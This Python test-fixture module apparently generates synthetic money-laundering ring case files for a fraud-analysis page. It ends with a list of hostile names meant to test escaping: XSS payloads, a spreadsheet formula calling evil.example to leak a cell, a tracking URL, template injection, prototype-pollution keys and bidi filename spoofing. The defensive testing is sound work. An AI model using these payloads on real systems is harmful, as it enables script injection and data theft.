"""Case files for tests of the page: invented rings of any size, whose numbers agree with each other.

Money comes from victims outside, is gathered by collectors, spread over mules, layered, cashed out. Amounts are exact,
sums are sums of what is listed, places come from a ring-shaped drawing. The same arguments give the same file.
"""

from __future__ import annotations

import math
import random
from collections import defaultdict
from datetime import datetime, timedelta

DIGITS = {"USD": 2, "CNY": 2, "JPY": 0, "BHD": 3}
STAGES = ["victim", "collector", "mule", "layer", "cash-out"]

TEXTS = {
    "en": {
        "title": "Ring of {n} accounts that gathers, spreads and cashes out",
        "label": {"identity": "Shared identifiers", "fan_in": "Fan-in to collectors", "community": "Dense community", "prior": "Base rate"},
        "withheld": [
            "Account names are pseudonyms made with the key of this case; the list of true names is kept apart.",
            "The columns 'customer name' and 'address' were left out.",
        ],
        "change": "Without the {n} transfers and the identifier below, the ring would have scored under the threshold.",
        "summarised": "The members with the largest throughput and all evidence were kept.",
    },
    "zh": {
        "title": "{n} 个账户归集、分散并套现的团伙",
        "label": {"identity": "共用标识", "fan_in": "向归集账户汇入", "community": "紧密社群", "prior": "基准率"},
        "withheld": ["账户名称为用本案密钥生成的假名；真实名单另行保管。", "“客户姓名”“地址”两列未包含。"],
        "change": "若没有下列 {n} 笔转账和该标识，此团伙的评分将低于阈值。",
        "summarised": "保留了流量最大的成员和全部证据。",
    },
}


def amount(currency: str, minor: int) -> dict:
    """An amount as a case file has it."""
    digits = DIGITS[currency]
    sign, text = "-" if minor < 0 else "", str(abs(minor)).rjust(digits + 1, "0")
    decimal = sign + (f"{text[:-digits]}.{text[-digits:]}" if digits else text)
    return {"currency": currency, "minor": str(minor), "amount": decimal}


def stage_of(place: int, num_members: int) -> str:
    """What a member does: few collectors, many mules, some layers, few that cash out, one controller."""
    if place == 0:
        return "controller"
    share = place / num_members
    return "collector" if share < 0.15 else "mule" if share < 0.65 else "layer" if share < 0.85 else "cash-out"


def ring(
    num_members: int = 30,
    num_outside: int = 12,
    num_transfers: int = 220,
    *,
    language: str = "en",
    seed: int = 7,
    account_names: list[str] | None = None,
    identifier_names: list[str] | None = None,
    transfer_names: list[str] | None = None,
    currencies: tuple[str, ...] = ("USD", "JPY"),
    summarised: bool = False,
) -> dict:
    """A ring. Names that are given replace the invented ones from the first on."""
    rng = random.Random(seed)
    texts = TEXTS[language]
    num_accounts = num_members + num_outside

    def named(given: list[str] | None, place: int, invented: str) -> str:
        return given[place] if given and place < len(given) else invented

    roles = [[stage_of(place, num_members)] for place in range(num_members)] + [["victim"] if place % 3 else [] for place in range(num_outside)]
    if num_members > 6:
        roles[num_members // 2] = ["mule", "layer"]
        roles[num_members - 2] = []
    by_role = defaultdict(list)
    for place, of in enumerate(roles):
        for role in of:
            by_role[role].append(place)
    by_role["victim"] = list(range(num_members, num_accounts)) or by_role["mule"]
    steps = [stage for stage in STAGES if by_role[stage]]

    start, moment = datetime(2024, 1, 8, 9, 0, 0), 0
    transfers = []
    pairs = []
    for place in range(num_transfers):
        if pairs and rng.random() < 0.35:
            source, target = rng.choice(pairs)
        else:
            step = rng.randrange(len(steps) - 1)
            source, target = rng.choice(by_role[steps[step]]), rng.choice(by_role[steps[step + 1]])
            if rng.random() < 0.03:
                source, target = rng.choice(by_role["cash-out"] or [0]), 0
            pairs.append((source, target))
        moment += rng.randrange(60, max(120, 2 * 86_400 * 20 // num_transfers))
        currency = currencies[0] if len(currencies) == 1 or rng.random() < 0.85 else rng.choice(currencies[1:])
        paid = int(10 ** rng.uniform(3.4, 6.2)) if DIGITS[currency] else int(10 ** rng.uniform(3, 5))
        time = (start + timedelta(seconds=moment)).strftime("%Y-%m-%dT%H:%M:%S")
        time += f".{rng.randrange(1, 10**6):06d}".rstrip("0") if place % 17 == 5 else ""
        transfers.append(
            {
                "id": named(transfer_names, place, f"TX-{240100000 + place * 37}"),
                "source": source,
                "target": target,
                "time": f"{time}Z",
                "paid": amount(currency, paid),
                "received": amount(currencies[1], paid * 150 // 100) if len(currencies) > 1 and currency == "USD" and place % 29 == 3 else None,
                "traced": amount(currency, paid * 3 // 4) if place % 4 == 0 else None,
                "hop": place % 5 if place % 4 == 0 else None,
                "evidence": False,
            }
        )

    identifiers, uses = [], []
    for place in range(max(1, num_members // 8)):
        kind = ("device", "phone", "ip", "card")[place % 4]
        identifiers.append({"id": named(identifier_names, place, f"{kind}-{rng.randrange(16**6):06x}"), "kind": kind})
        for account in sorted(rng.sample(range(num_members), min(num_members, rng.randrange(2, 6)))):
            uses.append(
                {
                    "account": account,
                    "identifier": place,
                    "first": "2024-01-08T10:00:00Z" if place % 2 else None,
                    "last": "2024-01-19T18:30:00Z" if place % 2 else None,
                    "count": rng.randrange(1, 40),
                }
            )

    collectors = set(by_role["collector"])
    fan_in = [place for place, one in enumerate(transfers) if one["target"] in collectors][: max(6, num_transfers // 12)]
    dense = [place for place, one in enumerate(transfers) if one["source"] in collectors][: max(6, num_transfers // 15)]
    for place in {*fan_in, *dense}:
        transfers[place]["evidence"] = True
    parts = {"fan_in": 9412, "identity": 7250, "community": 3105, "prior": -2600}
    claims = [
        {
            "kind": "fan_in",
            "id": "fan_in-1",
            "text": (
                f"{len({transfers[place]['source'] for place in fan_in})} accounts paid into {len(collectors)} collectors "
                f"within two weeks, in {len(fan_in)} transfers, most of them just under the limit for reporting."
                if language == "en"
                else f"两周内有多个账户分 {len(fan_in)} 笔汇入 {len(collectors)} 个归集账户，多数金额略低于报告限额。"
            ),
            "millibits": parts["fan_in"],
            "transfers": fan_in,
            "identifiers": [],
        },
        {
            "kind": "identity",
            "id": "identity-1",
            "text": (
                f"{len({use['account'] for use in uses})} members share {len(identifiers)} devices, phones and cards; chance alone would give fewer than one."
                if language == "en"
                else f"{len({use['account'] for use in uses})} 个成员共用 {len(identifiers)} 个设备、电话和银行卡；偶然情况下应少于一个。"
            ),
            "millibits": parts["identity"],
            "transfers": [],
            "identifiers": list(range(len(identifiers))),
        },
        {
            "kind": "community",
            "id": "community-31",
            "text": (
                "The members pay each other far more than they pay anybody else."
                if language == "en"
                else "成员之间的资金往来远多于与其他账户的往来。"
            ),
            "millibits": parts["community"],
            "transfers": dense,
            "identifiers": [],
        },
    ]

    received, paid = defaultdict(lambda: defaultdict(int)), defaultdict(lambda: defaultdict(int))
    lines = defaultdict(lambda: [0, 0, 0, 0])
    flow, number = defaultdict(int), defaultdict(int)
    step_of = {}
    for place, of in enumerate(roles):
        step_of[place] = STAGES.index(of[0]) if of and of[0] in STAGES else 0 if place >= num_members else 5
    for one in transfers:
        got = one["received"] or one["paid"]
        paid[one["source"]][one["paid"]["currency"]] += int(one["paid"]["minor"])
        received[one["target"]][got["currency"]] += int(got["minor"])
        line = lines[one["paid"]["currency"]]
        inside = one["source"] < num_members, one["target"] < num_members
        minor = int(one["paid"]["minor"])
        line[0 if inside == (False, True) else 1 if inside == (True, False) else 2] += minor
        line[3] += int(one["traced"]["minor"]) if one["traced"] else 0
        if step_of[one["source"]] < step_of[one["target"]]:
            key = one["source"], one["target"], one["paid"]["currency"]
            flow[key] += minor
            number[key] += 1

    # A wreath: members by their step on arcs, accounts outside around.
    accounts = []
    for place in range(num_accounts):
        member = place < num_members
        angle = 2 * math.pi * (place / max(1, num_members) if member else (place - num_members + 0.5) / max(1, num_outside))
        radius = (0.18 + 0.05 * (step_of[place] % 5) + 0.03 * rng.random()) if member else 0.48
        accounts.append(
            {
                "id": named(account_names, place, f"ACC-{rng.randrange(16**8):08X}"),
                "member": member,
                "roles": roles[place],
                "received": [amount(code, total) for code, total in sorted(received[place].items(), reverse=True)],
                "paid": [amount(code, total) for code, total in sorted(paid[place].items(), reverse=True)],
                "attributes": [["opened", f"20{rng.randrange(10, 24)}-0{rng.randrange(1, 10)}-11"], ["branch", rng.choice(["North", "Harbour", "Online"])], ["risk", rng.randrange(1, 9)]] if member else [],
                "x": round(0.5 + radius * math.cos(angle), 4),
                "y": round(0.5 + radius * math.sin(angle), 4),
            }
        )
    for place, one in enumerate(identifiers):
        users = [accounts[use["account"]] for use in uses if use["identifier"] == place]
        one["x"] = round(sum(user["x"] for user in users) / len(users) * 0.55 + 0.225, 4)
        one["y"] = round(sum(user["y"] for user in users) / len(users) * 0.55 + 0.225, 4)

    ends = sorted({(end, step_of[end]) for key in flow for end in key[:2]}, key=lambda end: (end[1], end[0]))
    places = {end: at for at, (end, _) in enumerate(ends)}
    first, last = (transfers[0]["time"], transfers[-1]["time"]) if transfers else (None, None)
    points = {
        "en": {
            "who": f"{num_members} accounts: one controller, {len(collectors)} collectors, {len(by_role['mule'])} mules, {len(by_role['layer'])} layers, {len(by_role['cash-out'])} that cash out; {num_outside} accounts outside paid them.",
            "what": f"{num_transfers} transfers; money of victims was gathered, spread over mules, layered and taken out.",
            "when": f"From {first} to {last}.",
            "where": "Accounts of the branches North, Harbour and Online; two currencies.",
            "why": "Fan-in to few accounts, shared devices and phones, and a community that is far denser than chance gives.",
            "how": "Collectors gathered payments under the limit for reporting and passed them on within hours.",
        },
        "zh": {
            "who": f"{num_members} 个账户：1 个控制人、{len(collectors)} 个归集账户、{len(by_role['mule'])} 个过账账户；另有 {num_outside} 个外部账户向其付款。",
            "what": f"{num_transfers} 笔转账；受害人资金被归集、分散、分层后取出。",
            "when": f"{first} 至 {last}。",
            "where": "涉及三家网点的账户，两种货币。",
            "why": "资金汇入少数账户，共用设备和电话，社群密度远高于偶然。",
            "how": "归集账户收取略低于报告限额的款项，并在数小时内转出。",
        },
    }[language]
    return {
        "format": "ringfence-case/1",
        "language": language,
        "subject": {"kind": "ring", "id": "R-2024-0117", "title": texts["title"].format(n=num_members), "first": first, "last": last},
        "summary": [{"question": question, "text": text} for question, text in points.items()],
        "score_millibits": sum(parts.values()),
        "score_parts": [{"name": name, "label": texts["label"][name], "millibits": bits} for name, bits in parts.items()],
        "claims": claims,
        "counterfactual": {"text": texts["change"].format(n=len(fan_in[:3])), "transfers": fan_in[:3], "identifiers": [0], "smallest": True},
        "money": [
            {
                "currency": code,
                "received": amount(code, line[0]),
                "paid": amount(code, line[1]),
                "kept": amount(code, line[0] - line[1]),
                "inside": amount(code, line[2]),
                "traced": amount(code, line[3]),
            }
            for code, line in sorted(lines.items(), reverse=True)
        ],
        "accounts": accounts,
        "identifiers": identifiers,
        "uses": uses,
        "transfers": transfers,
        "flow_nodes": [{"account": end, "label": accounts[end]["id"], "step": step} for end, step in ends],
        "flow_links": [
            {"source": places[source], "target": places[target], "amount": amount(code, total), "num_transfers": number[source, target, code]}
            for (source, target, code), total in sorted(flow.items())
        ],
        "summarised": {"num_accounts": num_accounts * 3, "num_transfers": num_transfers * 4, "text": texts["summarised"]} if summarised else None,
        "withheld": texts["withheld"],
        "provenance": {
            "engine": {"name": "ringfence", "version": "0.1.0"},
            "graph": {"sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "num_accounts": 120_000},
            "options": {"resolution": 1.0, "typologies": ["fan_in", "cycle"], "seed": 7},
        },
    }


#: Names that try to become markup, script, formulas, or another name.
HOSTILE = [
    "<script>window.pwned=1;alert(1)</script>",
    '"><img src=x onerror="window.pwned=2">',
    "</script><script>window.pwned=3</script>",
    "<!--<script>",
    "safe\u202egpj.exe",
    "x" * 10_000,
    "张伟的账户",
    "🦊👩‍👩‍👧",
    "bell\x07nul\x00tab\tline\nend",
    "' onmouseover='window.pwned=4",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
    "@SUM(1)",
    "-2+3",
    "+1",
    "\u2066isolate\u2069\u200b\ufeff",
    "__proto__",
    "constructor",
    "<svg/onload=window.pwned=5>",
    "https://evil.example/track.gif",
    "\u2028line\u2029",
    "javascript:window.pwned=6",
    "{{7*7}}${window.pwned=7}",
    "谢" * 10_000,
    "",
    " ",
]


def hostile(language: str = "en") -> dict:
    """A ring in which every text that comes from the data is hostile."""
    case = ring(
        num_members=len(HOSTILE),
        num_outside=len(HOSTILE),
        num_transfers=120,
        language=language,
        account_names=HOSTILE + [f"{name}'" for name in HOSTILE],
        identifier_names=HOSTILE,
        transfer_names=HOSTILE,
    )
    for at, claim in enumerate(case["claims"]):
        claim["text"], claim["kind"], claim["id"] = HOSTILE[at], HOSTILE[at + 1], HOSTILE[at + 2]
    for at, one in enumerate(case["identifiers"]):
        one["kind"] = HOSTILE[at]
    for at, account in enumerate(case["accounts"]):
        name = HOSTILE[at % len(HOSTILE)]
        account["attributes"] = [[name, name], ["nested", {name: [name]}]]
        account["roles"] = account["roles"] + [name] if at % 5 == 0 else account["roles"]
    for at, node in enumerate(case["flow_nodes"]):
        node["label"] = HOSTILE[at % len(HOSTILE)]
    for at, point in enumerate(case["summary"]):
        point["text"] = HOSTILE[at]
    case["summary"].append({"question": HOSTILE[0], "text": HOSTILE[2]})
    case["subject"].update(title=HOSTILE[2], id=HOSTILE[1])
    case["withheld"] = HOSTILE
    case["score_parts"][0]["label"] = HOSTILE[0]
    case["counterfactual"]["text"] = HOSTILE[2]
    case["provenance"] = {name: name for name in HOSTILE}
    case["summarised"] = {"num_accounts": 10**12, "num_transfers": 10**15, "text": HOSTILE[0]}
    return case
